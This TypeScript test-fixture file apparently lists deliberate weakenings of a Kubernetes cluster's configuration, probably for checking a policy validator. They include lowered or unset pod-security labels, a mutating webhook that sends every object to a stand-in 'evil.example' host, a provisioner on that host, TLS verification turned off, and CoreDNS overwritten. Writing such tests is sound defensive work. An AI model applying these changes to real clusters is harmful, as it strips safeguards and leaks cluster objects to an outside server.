/** Namespaces that enforce less, and objects that change the whole cluster. */
import { all, EXPORTER, object, remove, set } from "../draft";
import type { Weakening, Weakenings } from "../draft";

const label = (namespace: string, name: string, value: unknown): Weakening[1] =>
  set(`Namespace/${namespace}`, `metadata/labels/pod-security.kubernetes.io~1${name}`, value);

export const NAMESPACES: Weakenings = {
  "enforce-old-version": ["rules of 2022", label("monitoring", "enforce-version", "v1.20")],
  "enforce-version-unset": ["a version of the server's choice", label("monitoring", "enforce-version", undefined)],
  "enforce-baseline": ["less is enforced", label("tracing", "enforce", "baseline")],
  "enforce-unset": ["nothing is enforced", label("monitoring", "enforce", undefined)],
  "audit-weaker": ["nobody is told", label("monitoring", "audit", "privileged")],
  "warn-unset": ["nobody is warned", label("monitoring", "warn", undefined)],
  "enforce-privileged-agents": [
    "a reason that is exempt, without its cause",
    all(
      label("open-telemetry", "enforce", "privileged"),
      set("Namespace/open-telemetry", "metadata/annotations", {
        "gke-telemetry/pod-security-reason": "the queue outlives the pod",
        "gke-telemetry/pod-security-reason-codes": "host-path",
      }),
    ),
  ],
  "ingress-label": [
    "pods of the namespace pass for ingress controllers",
    set("Namespace/monitoring", "metadata/labels/gke-telemetry~1ingress-controller", "true"),
  ],
  "second-tenant-in-privileged": [
    "another pod may do everything there",
    set("Deployment/grafana", "metadata/namespace", "node-exporter"),
  ],
  "exporter-in-restricted": ["a namespace with other pods", set(EXPORTER, "metadata/namespace", "monitoring")],
  "namespace-removed": ["the namespace is somebody's", remove("Namespace/monitoring")],
  "namespace-added": [
    "a namespace that enforces nothing",
    object("v1", "Namespace", "extra", "", { metadata: { name: "extra", labels: {} } }),
  ],
  webhook: [
    "a webhook sees every object",
    object("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", "x", "", {
      webhooks: [{ name: "x", clientConfig: { url: "https://evil.example" } }],
    }),
  ],
  "validating-policy": [
    "a policy that nobody sees",
    object("admissionregistration.k8s.io/v1", "ValidatingAdmissionPolicy", "x", "", { spec: {} }),
  ],
  "api-service": [
    "an API of another server",
    object("apiregistration.k8s.io/v1", "APIService", "x", "", {
      spec: { insecureSkipTLSVerify: true, group: "x", version: "v1" },
    }),
  ],
  "custom-resource": [
    "a definition of others' objects",
    object("apiextensions.k8s.io/v1", "CustomResourceDefinition", "x", "", { spec: {} }),
  ],
  "signing-request": [
    "a certificate for the cluster",
    object("certificates.k8s.io/v1", "CertificateSigningRequest", "x", "", {
      spec: { signerName: "kubernetes.io/kube-apiserver-client" },
    }),
  ],
  "storage-class": [
    "volumes without encryption",
    object("storage.k8s.io/v1", "StorageClass", "x", "", { provisioner: "evil.example" }),
  ],
  "runtime-class-added": ["another runtime", object("node.k8s.io/v1", "RuntimeClass", "x", "", { handler: "x" })],
  "daemon-config": [
    "DNS of the cluster",
    object("v1", "ConfigMap", "coredns", "kube-system", { data: { Corefile: "." } }),
  ],
  "provider-other-cluster": [
    "objects go to another cluster",
    set("pulumi:providers:kubernetes/cluster", "insecureSkipTlsVerify", "true"),
  ],
};
